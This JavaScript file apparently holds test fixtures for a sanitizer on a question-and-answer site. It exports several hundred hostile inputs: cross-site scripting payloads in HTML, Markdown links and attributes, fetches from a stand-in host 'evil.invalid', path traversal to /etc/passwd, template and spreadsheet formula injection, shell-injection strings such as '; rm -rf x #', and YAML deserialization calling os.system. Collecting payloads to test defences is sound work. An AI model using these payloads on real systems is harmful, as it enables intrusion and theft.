// Strings that try to run a script, to reach another host or to change the page around them, by what they are made of.

const call = 'pwned()';
const off = '//evil.invalid';

/** Elements that load, run, frame, submit or restyle by themselves. */
const html = [
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<script src="https:${off}/a.js"></script>`, `<script\n>${call}</script\n>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`, `<script/x>${call}</script>`, `<script>/*`, `*/${call}</script>`, `<script>${call}`, `<script type=module>${call}</script>`,
  `<script type="text/plain">x</script><script>${call}</script>`, `<<script>${call}//<</script>`, `<script\u0000>${call}</script>`, `<\u0000script>${call}</script>`,
  `</script><script>${call}</script>`, `</title><script>${call}</script>`, `</textarea><script>${call}</script>`, `</style><script>${call}</script>`,
  `--><script>${call}</script>`, `]]><script>${call}</script>`, `<!--><script>${call}</script>-->`, `<!-- --!><script>${call}</script>`, `<![CDATA[<script>${call}</script>]]>`,
  `<?php ?><script>${call}</script>`, `<!DOCTYPE html><script>${call}</script>`, `<noscript><p title="</noscript><script>${call}</script>"></noscript>`,
  `<template><script>${call}</script></template>`, `<svg><script>${call}</script></svg>`, `<svg><script href="https:${off}/a.js"/></svg>`, `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<math><mtext><script>${call}</script></mtext></math>`, `<math><mi><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>"></mglyph></mi></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set attributeName=onmouseover to=${call}>`, `<svg><a href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<iframe src="javascript:${call}"></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<iframe src="https:${off}/"></iframe>`, `<frameset><frame src="javascript:${call}"></frameset>`,
  `<object data="javascript:${call}"></object>`, `<object data="https:${off}/x"></object>`, `<embed src="javascript:${call}">`, `<embed src="https:${off}/x">`, `<applet code=x></applet>`,
  `<link rel=stylesheet href="https:${off}/a.css">`, `<link rel=prefetch href="https:${off}/">`, `<link rel=dns-prefetch href="${off}">`, `<link rel=import href="https:${off}/">`, `<link rel=manifest href="https:${off}/">`,
  `<style>body{display:none}</style>`, `<style>@import "https:${off}/a.css";</style>`, `<style>*{background:url(https:${off}/a)}</style>`, `<style>a{}</style><img src=x onerror=${call}>`,
  `<base href="https:${off}/">`, `<base target=_blank>`, `<meta http-equiv=refresh content="0;url=https:${off}/">`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta name=referrer content=unsafe-url>`, `<meta charset=utf-7>`,
  `<form action="https:${off}/"><input name=password></form>`, `<form><button formaction="javascript:${call}">x</button></form>`, `<input type=image src="https:${off}/a.png" formaction="javascript:${call}">`,
  `<input autofocus onfocus=${call}>`, `<isindex type=image src=x onerror=${call}>`, `<keygen autofocus onfocus=${call}>`, `<select autofocus onfocus=${call}><option>x</select>`, `<textarea autofocus onfocus=${call}>`,
  `<video src="https:${off}/v"></video>`, `<video><source onerror=${call}></video>`, `<video poster="https:${off}/p.png"></video>`, `<audio src=x onerror=${call}></audio>`, `<audio src="https:${off}/a" autoplay></audio>`,
  `<img src="https:${off}/i.png" onload=${call}>`, `<img srcset="https:${off}/i.png 1x" src=x>`, `<picture><source srcset="https:${off}/i.png"><img src=x></picture>`, `<image src=x onerror=${call}>`,
  `<body onload=${call}>`, `<body background="https:${off}/b.png">`, `<html onmouseover=${call}>`, `<table background="https:${off}/b.png"><tr><td>x</table>`, `<bgsound src="https:${off}/a">`,
  `<marquee onstart=${call}>x</marquee>`, `<details ontoggle=${call} open>x</details>`, `<details open ontoggle="${call}"><summary onclick="${call}">x</summary></details>`, `<dialog open oncancel=${call}>x</dialog>`,
  `<portal src="https:${off}/"></portal>`, `<fencedframe src="https:${off}/"></fencedframe>`, `<x-y onclick=${call} tabindex=1>x</x-y>`, `<xss id=x tabindex=1 onfocus=${call}></xss>`, `<p contenteditable onfocus=${call} autofocus>x</p>`,
  `<a id=location href="https:${off}/">x</a><a id=location name=href></a>`, `<form id=document><input name=cookie></form>`, `<img name=getElementById>`, `<a id=qbank></a><a id=qbank name=x></a>`,
];

/** Attributes on elements that may pass: on what the allow-list knows, a handler, a style or an address must not. */
const handlers = ['onclick', 'ONCLICK', 'onmouseover', 'onerror', 'onload', 'onfocus', 'onanimationstart', 'ontransitionend', 'onpointerenter', 'onbeforetoggle', 'oncontentvisibilityautostatechange', 'onscrollend', 'onwheel', 'onfocusin'];
const attributes = [
  ...handlers.map(handler => `<kbd ${handler}="${call}">x</kbd>`),
  ...handlers.map(handler => `<details ${handler}=${call}><summary>x</summary>y</details>`),
  `<br onclick=${call}>`, `<br/onclick=${call}>`, `<br style="background:url(https:${off}/a)">`, `<sub style=position:fixed;inset:0>x</sub>`, `<sup class="x" id="search-input">x</sup>`,
  `<kbd\tonclick=${call}>x</kbd>`, `<kbd\nonclick=${call}>x</kbd>`, `<kbd\u000conclick=${call}>x</kbd>`, `<kbd/onclick=${call}>x</kbd>`, `<kbd title="x"onclick=${call}>x</kbd>`, `<kbd title='"' onclick=${call}>x</kbd>`,
  `<kbd title=\`\` onclick=${call}>x</kbd>`, `<kbd a="\n" onclick="${call}">x</kbd>`, `<summary accesskey=x onclick=${call}>x</summary>`, `<kbd tabindex=0 autofocus onfocus=${call}>x</kbd>`,
  `" onmouseover="${call}`, `' onmouseover='${call}`, `"><img src=x onerror=${call}>`, `'><img src=x onerror=${call}>`, `" autofocus onfocus=${call} x="`, `\`><img src=x onerror=${call}>`, `x" style="background:url(https:${off}/a)`,
];

/** Addresses that run code or leave their scheme, for links and images of Markdown and of HTML. */
const schemes = [
  `javascript:${call}`, `JavaScript:${call}`, `javascript&colon;${call}`, `javascript&#58;${call}`, `javascript&#x3a;${call}`, `&#106;avascript:${call}`, `&#x6A;avascript:${call}`, `java\tscript:${call}`, `java&Tab;script:${call}`, `java&NewLine;script:${call}`,
  `java%0ascript:${call}`, `%6aavascript:${call}`, ` javascript:${call}`, `\u0001javascript:${call}`, `\u00a0javascript:${call}`, `\u2028javascript:${call}`, `javascript\u200b:${call}`, `ｊavascript:${call}`, `javascript://%0a${call}`, `javascript:/*x*/${call}`,
  `vbscript:${call}`, `livescript:${call}`, `mocha:${call}`, `data:text/html,<script>opener.${call}</script>`, `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`, `data:image/svg+xml,<svg onload=${call}>`, `DATA:text/html,x`, `blob:https://x/y`,
  `filesystem:https://x/y`, `file:///etc/passwd`, `about:blank`, `view-source:https:${off}`, `ws:${off}/`, `ftp:${off}/x`, `intent:${off}#Intent;end`, `ms-office:ofe|u|https:${off}`, `chrome://settings`, `resource:x`, `jar:https:${off}!/`, `feed:javascript:${call}`,
  `${off}/no-scheme`, `\\\\evil.invalid\\share`, `/\\evil.invalid/x`, `https:${off}/"onmouseover="${call}`, `https:${off}/'onmouseover='${call}`, `https://user:password@evil.invalid/`, `x" onerror="${call}`, `../../../../etc/passwd`, `..%2f..%2f..%2fetc%2fpasswd`,
];
const urls = [
  ...schemes.map(address => `[link](<${address.replaceAll('\n', '')}>)`),
  ...schemes.map(address => `![picture](<${address}>)`),
  ...schemes.map(address => `<a href="${address}">link</a>`),
  ...schemes.slice(0, 20).map(address => `[reference]\n\n[reference]: <${address}> "title"`),
  `<javascript:${call}>`, `<JAVASCRIPT:${call}>`, `[a](javascript:${call} "b")`, `[a](https:${off} "\\" onmouseover=\\"${call}")`, `[a](https:${off} 'b" onclick="${call}')`, `![" onerror="${call}](x.png)`, `![a](x.png "\\" onerror=\\"${call}")`,
  `[a]: javascript:${call}\n[a]`, `[![a](javascript:${call})](javascript:${call})`, `[a](<javascript:${call}>)`, `[a\n](javascript:${call})`, `www.evil.invalid/"onclick="${call}`, `https://evil.invalid/\u202egpj.exe`,
];

/** Markdown whose rendering is built by hand somewhere. */
const markdown = [
  `\`\`\`"><script>${call}</script>\nx\n\`\`\``, `\`\`\`js" onmouseover="${call}\nx\n\`\`\``, `~~~<img src=x onerror=${call}>\nx\n~~~`, `\`\`\`\n</code></pre><script>${call}</script>\n\`\`\``, `    </code></pre><script>${call}</script>`,
  `\`</code><script>${call}</script>\``, `\`\`\`html\n<script>${call}</script>\n\`\`\``, `\`\`\`python\n"""</span></code></pre><img src=x onerror=${call}>"""\n\`\`\``, `\`\`\`sql\n'</span><script>${call}</script>\n\`\`\``,
  `| a | b |\n|---|---|\n| <script>${call}</script> | [x](javascript:${call}) |`, `|" onclick="${call}|b|\n|:--|--:|\n|x|y|`, `# <img src=x onerror=${call}>`, `# x {#id onclick=${call}}`, `## " onclick="${call}`, `> <script>${call}</script>`, `- <img src=x onerror=${call}>`, `1. <img src=x onerror=${call}>`, `- [x] <img src=x onerror=${call}>`,
  `*<img src=x onerror=${call}>*`, `**</strong><script>${call}</script>**`, `~~</del><script>${call}</script>~~`, `[^1]\n\n[^1]: <script>${call}</script>`, `[^" onclick="${call}]\n\n[^" onclick="${call}]: x`, `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`, `\\<script>${call}\\</script>`,
  `<details><summary><img src=x onerror=${call}></summary><script>${call}</script></details>`, `<details>\n<summary>x</summary>\n\n<script>${call}</script>\n\n</details>`, `</details></article></main><script>${call}</script>`, `</summary><script>${call}</script>`, `<!-- id: "><script>${call}</script> -->`, `<!-- id: ../../escape -->`,
  `<kbd><script>${call}</script></kbd>`, `<kbd>`, `</kbd></div></main>`, `<sub><sub><sub><img src=x onerror=${call}>`, `<br></br><br/ ><img src=x onerror=${call}>`,
];

/** Text that makes a reader, a template or a script misread where things end. */
const text = [
  `{{${call}}}`, `{{7*7}}`, `{{TITLE}}`, `{{>LAYOUT}}`, `{{#QUESTION}}x{{/QUESTION}}`, `{{%AUTOESCAPE context="JAVASCRIPT"}}`, `{{=<% %>=}}`, `{{!`, `{{`, `}}`, `{{ANSWER:none}}`, `{%raw%}{{x}}{%endraw%}`, `{% include "/etc/passwd" %}`, `\${${call}}`, `#{${call}}`, `<%= ${call} %>`, `{{constructor.constructor('${call}')()}}`, `{{$on.constructor('${call}')()}}`, `[[${call}]]`, `*{${call}}`, `@{${call}}`, `<?= ${call} ?>`, `$(${call})`, `\`${call}\``,
  `</script><img src=x onerror=${call}>`, `<!--<script>`, `"}</script><script>${call}</script>`, `\\"};${call};//`, `\u2028${call}`, `\u2029${call}`, `]]>`, `--></script>`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`, `\\u003cscript\\u003e${call}`, `%3Cscript%3E${call}%3C/script%3E`, `&amp;lt;script&amp;gt;`,
  `\u202e<script>${call}</script>\u202c`, `\u2066"onclick="${call}\u2069`, `\u200b<\u200bscript>${call}`, `＜script＞${call}＜/script＞`, `<ſcript>${call}</ſcript>`, `<sCRIPT\u212a>${call}`, `ﬀ<img src=x onerror=${call}>`, `\ufeff<script>${call}</script>`, `\ufdd0\uffff<script>${call}</script>`, `e\u0301`.repeat(200), `\u0300`.repeat(500), `${'<b>'.repeat(300)}`, `${'['.repeat(300)}`, `${'*a '.repeat(300)}`, `${'> '.repeat(300)}x`, `${'`'.repeat(301)}`,
  `=HYPERLINK("https:${off}","x")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `\u001b[2J\u001b]0;pwned\u0007`, `\u009b31m`, `::error file=x::pwned`, `%0A::set-output name=x::y`, `\r\n::warning::x`, `; rm -rf x #`, `$(touch pwned)`, `|touch pwned`, `-o pwned`, `--output=pwned`,
];

/** @type {Record<string, string[]>} */
export const families = { html, attributes, urls, markdown, text };

/** Front matter that makes a YAML reader build, run, share or overwrite something; each stands for the lines between the `---`. */
export const frontMatter = [
  'question: &a What?\ntags: [*a, *a]', 'question: What?\nbase: &b {level: mid}\n<<: *b', 'question: What?\nquestion: Which?', 'question: !!python/object/apply:os.system ["touch pwned"]', 'question: !!js/function "function(){}"', 'question: !!binary aGk=', 'question: !<tag:x,2020:y> What?',
  'a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nquestion: *e',
  `question: ${'['.repeat(5000)}`, `question: ${'{a: '.repeat(3000)}`, `question: "${'x'.repeat(10)}\\x00"`, 'question: "\\uD800"', '? question\n: What?', '? [question]\n: What?', '"question": What?\n"ques\\x74ion": Which?', 'question: What?\n--- \nquestion: Which?', 'question: What?\n...\nquestion: Which?', '%TAG ! tag:x:\n---\nquestion: What?',
  'id: ../../../escape\nquestion: What?', 'id: /etc/passwd\nquestion: What?', 'id: "..\\\\..\\\\escape"\nquestion: What?', 'id: "a/b"\nquestion: What?', 'id: "index.html"\nquestion: What?', 'id: "con"\nquestion: What?', 'id: "a\\nb"\nquestion: What?', 'id: "%2e%2e%2fescape"\nquestion: What?', 'id: ""\nquestion: What?', 'id: "."\nquestion: What?', 'id: "-rf"\nquestion: What?',
  'aliases: ["../../escape"]\nquestion: What?', 'aliases: ["/absolute"]\nquestion: What?', 'aliases: ["a\\0b"]\nquestion: What?', 'aliases: ["<script>"]\nquestion: What?', 'topic: ../../escape\nquestion: What?', 'topic: "<script>"\nquestion: What?', 'tags: ["../../escape", "<img src=x onerror=pwned()>", "con", "a/b", "."]\nquestion: What?', 'language: "../en"\nquestion: What?', 'related: ["../../x"]\nquestion: What?', 'translation_of: "../../x"\nquestion: What?', 'updated: "2026-01-01\\"><script>pwned()</script>"\nquestion: What?', 'asked_in: [{source: "../../x", position: 99999999999999999999}]\nquestion: What?', 'level: "<script>"\nquestion: What?', 'choices: [{text: "<script>pwned()</script>", correct: maybe}]\nquestion: What?',
];
